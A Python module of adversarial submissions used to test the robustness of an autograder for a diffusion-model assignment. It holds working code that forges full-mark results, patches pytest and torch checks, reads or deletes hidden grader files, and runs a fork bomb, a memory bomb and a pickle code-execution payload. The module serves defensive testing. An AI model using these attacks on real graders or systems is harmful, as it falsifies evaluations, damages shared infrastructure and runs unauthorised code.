"""Submissions that try to get marks without the work, or to read or damage the autograder.

Each attack is the handout (every TODO unsolved) or the reference with code added to its utils.py,
and sometimes files beside it. tests/test_grading_attacks.py grades each through autograder.zip in
a root laid out like Gradescope's and checks that it gets what it deserves. `python -m tools.grade
--attacks` prints the table of docs/instructors.md. The code finds the grader the way a student would: from
the command lines in /proc, which every user can read, and from its own sys.path, which holds the
autograder's source folder (grading/ inside it, and in Gradescope's layout results/ beside it).
"""
from dataclasses import dataclass, field
from pathlib import Path

from tools.autograde import GRADED_FILES, ROOT

FIND_THE_GRADER = '''
import glob as _glob, hashlib as _hashlib, json as _json, os as _os, sys as _sys


def _grader_paths():
    """Every results file and graded-tests folder named on a command line (the grader's or this process's)
    or found beside a folder on sys.path (neither the interpreter's nor this file's)."""
    own = _os.path.dirname(_os.path.abspath(__file__))
    sources = [path for path in _sys.path if path not in ("", own) and not path.startswith((_sys.prefix, _sys.base_prefix))]
    results = {_os.path.normpath(_os.path.join(path, "..", "results", "results.json")) for path in sources}
    folders = {_os.path.join(path, "grading") for path in sources}
    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            arguments = open(cmdline, "rb").read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        for argument in arguments:
            if argument.startswith("--results="):
                results.add(argument.split("=", 1)[1])
            if argument.endswith("pytest.ini"):
                folders.add(_os.path.dirname(argument))
    return results, folders


def _full_marks(path):
    """Rewrite the results at `path` as if every test had passed (or write a perfect one)."""
    try:
        report = _json.load(open(path))
        for test in report["tests"]:
            test.update(score=test["max_score"], status="passed", output="")
        report["score"] = sum(test["max_score"] for test in report["tests"])
    except Exception:
        report = {"score": 59, "execution_time": 1.0, "tests": [
            {"name": "forged", "score": 59, "max_score": 59, "status": "passed", "visibility": "visible", "output": ""}]}
    with open(path, "w") as file:
        _json.dump(report, file)
'''

DUMMY_ANSWERS = '''
def cosine_beta_schedule(timesteps, s=0.008):
    return torch.zeros(timesteps, dtype=torch.float64)


def q_sample(schedule, x_start, t, noise=None, generator=None):
    return torch.zeros_like(x_start)


def p_losses(denoise_model, schedule, x_start, t, y, noise=None, loss_type="l2", generator=None):
    return torch.zeros((), dtype=x_start.dtype)


def guided_eps(denoiser, x_t, t, y, guidance_weight=0.0):
    return torch.zeros_like(x_t)


def p_sample(denoiser, schedule, x, t, y, guidance_weight=0.0, noise=None, generator=None):
    return torch.zeros_like(x)


def drop_labels(y, drop_probability, null_label, generator=None):
    return y.clone()
'''


@dataclass(frozen=True)
class Attack:
    """`code` is appended to the base's utils.py; `files` are written beside it. `breaks` names what
    the attack stops from working in a reference: graded tests whose probes call `q_sample`, or
    every test that needs utils.py ('utils'); None for an attack on the handout, which must score 0."""

    base: str  # "handout" or "reference"
    code: str
    files: dict[str, str] = field(default_factory=dict)
    breaks: str | None = None
    needs_root: bool = False  # the grader's file isolation is what stops it


def _in_q_sample(body: str) -> str:
    return f"\n\n_reference_q_sample = q_sample\n\n\ndef q_sample(*args, **kwargs):\n{body}\n"


ATTACKS = {
    "results forged at exit (atexit)": Attack("handout", FIND_THE_GRADER + '''
import atexit


@atexit.register
def _forge():
    for path in _grader_paths()[0] | {a.split("=", 1)[1] for a in _sys.argv if a.startswith("--results=")}:
        try:
            _full_marks(path)
        except OSError as error:
            print("could not forge", path, error)
'''),
    "comparison helpers and torch.testing patched": Attack("handout", DUMMY_ANSWERS + '''
import sys as _sys
torch.testing.assert_close = lambda *args, **kwargs: None
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
for _module in list(_sys.modules.values()):
    if hasattr(_module, "close") and getattr(_module, "__name__", "") == "support":
        _module.close = lambda *args, **kwargs: None
'''),
    "pytest's report hooks patched": Attack("handout", DUMMY_ANSWERS + '''
try:
    import _pytest.reports
    _pytest.reports.BaseReport.passed = property(lambda self: True)
    _pytest.reports.BaseReport.failed = property(lambda self: False)
except Exception:
    pass
'''),
    "conftest.py and pytest.ini beside the graded files": Attack("handout", DUMMY_ANSWERS, files={
        "conftest.py": "import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "pytest.ini": "[pytest]\naddopts = -p no:grading --co\n"}),
    "hidden tests, fixtures and reference read into the output": Attack("handout", FIND_THE_GRADER + '''
_found = []
for _folder in _grader_paths()[1] | {"/autograder/source/grading"}:
    for _name in ("test_hidden.py", "fixtures/expected.pt", "../utils.py", "../tools/autograde.py"):
        _path = _os.path.normpath(_os.path.join(_folder, _name))
        try:
            _data = open(_path, "rb").read()
            _found.append(f"READ {_path} sha256 {_hashlib.sha256(_data).hexdigest()}: {_data[:60]!r}")
        except OSError as _error:
            _found.append(f"DENIED {_path}: {_error.strerror}")
print("\\n".join(_found))
raise RuntimeError(" | ".join(_found))
''', needs_root=True),
    "results file written directly, again and again from a background process": Attack("handout", FIND_THE_GRADER + '''
if _os.fork() == 0:  # a daemon that outlives the grading and keeps writing full marks
    _os.setsid()
    if _os.fork() == 0:
        import time as _time
        for _ in range(200):
            for _path in _grader_paths()[0]:
                try:
                    _full_marks(_path)
                except OSError:
                    pass
            _time.sleep(0.05)
    _os._exit(0)
''', needs_root=True),
    "os._exit(0) at import": Attack("handout", "\nimport os\nos._exit(0)\n"),
    "sys.exit(0) at import": Attack("handout", "\nimport sys\nsys.exit(0)\n"),
    "an endless loop at import": Attack("reference", "\nwhile True:\n    pass\n", breaks="utils"),
    "a fork bomb": Attack("reference", _in_q_sample("    import os\n    while True:\n        os.fork()"),
                          breaks="q_sample", needs_root=True),
    "a memory bomb": Attack("reference", _in_q_sample(
        "    blocks = []\n    while True:\n        blocks.append(torch.ones(2**25, dtype=torch.float64))"),
        breaks="q_sample"),
    "100 MB printed": Attack("reference", _in_q_sample(
        "    for _ in range(100):\n        print('x' * 2**20)\n    return _reference_q_sample(*args, **kwargs)"),
        breaks="q_sample"),
    "an answer whose unpickling runs code": Attack("handout", '''
import os as _os, pickle as _pickle, sys as _sys

MARKER = "/tmp/unpickled-a-submissions-answer"


class _Payload:
    def __reduce__(self):
        return (_os.system, (f"touch {MARKER}",))


def cosine_beta_schedule(timesteps, s=0.008):
    return _Payload()


for _module in list(_sys.modules.values()):  # whatever the grader's side decodes, make it a pickle
    if getattr(_module, "__name__", "") == "wire":
        _module.encode = lambda value: _pickle.dumps(_Payload())
'''),
    "autograder files deleted and rewritten": Attack("handout", FIND_THE_GRADER + '''
for _folder in _grader_paths()[1] | {"/autograder/source/grading"}:
    for _name in ("support.py", "conftest.py", "../tools/autograde.py"):
        try:
            with open(_os.path.join(_folder, _name), "a") as _file:
                _file.write("\\nclose = lambda *args, **kwargs: None\\n")
        except OSError as _error:
            print("could not rewrite", _name, _error)
    for _name in ("test_hidden.py", "fixtures/expected.pt", "fixtures/expected_public.pt"):
        try:
            _os.remove(_os.path.join(_folder, _name))
        except OSError as _error:
            print("could not delete", _name, _error)
''', needs_root=True),
    "a graded file that links to the hidden tests": Attack("handout", "", files={"ddpm.py": "@link grading/test_hidden.py"}),
}

SEARCH_EVERY_FILE = '''
import os as _os
_found = []
for _top, _dirs, _files in _os.walk("/", onerror=lambda error: None):
    _dirs[:] = [name for name in _dirs if _os.path.join(_top, name) not in ("/proc", "/sys", "/dev", "/usr")]
    for _name in _files:
        if _name in ("test_hidden.py", "expected.pt", "results.json", "utils.py", "ddpm.py", "autograde.py"):
            try:
                _data = open(_os.path.join(_top, _name), "rb").read()
            except OSError:
                continue
            if _name not in ("utils.py", "ddpm.py") or b"# END " + b"SOLUTION" in _data:  # not this file itself
                _found.append(_os.path.join(_top, _name))
raise RuntimeError("FOUND " + " | ".join(_found))
'''
"""Code that walks every folder it may enter for the hidden tests, fixtures, results, grader and a
reference solution (a utils.py or ddpm.py with its solution markers), and reports what it read."""

UNPICKLE_MARKER = Path("/tmp/unpickled-a-submissions-answer")


def attack_submission(name: str, folder: Path, handout: Path, autograder_source: Path = ROOT) -> Path:
    """Write attack `name` into `folder` (created): the base's graded files (from `handout`, the
    output of tools/make_handout.py, or this copy's reference), the attack's code appended to
    utils.py and its extra files. A file '@link PATH' becomes a symbolic link to PATH inside
    `autograder_source`. Returns the folder."""
    attack = ATTACKS[name]
    folder.mkdir(parents=True, exist_ok=True)
    base = {name: ((handout if attack.base == "handout" else ROOT) / name).read_text() for name in GRADED_FILES}
    base["utils.py"] += "\n" + attack.code
    for name, text in {**base, **attack.files}.items():
        path = folder / name
        if path.is_symlink() or path.exists():
            path.unlink()
        if text.startswith("@link "):
            path.symlink_to(autograder_source / text.removeprefix("@link "))
        else:
            path.write_text(text)
    return folder
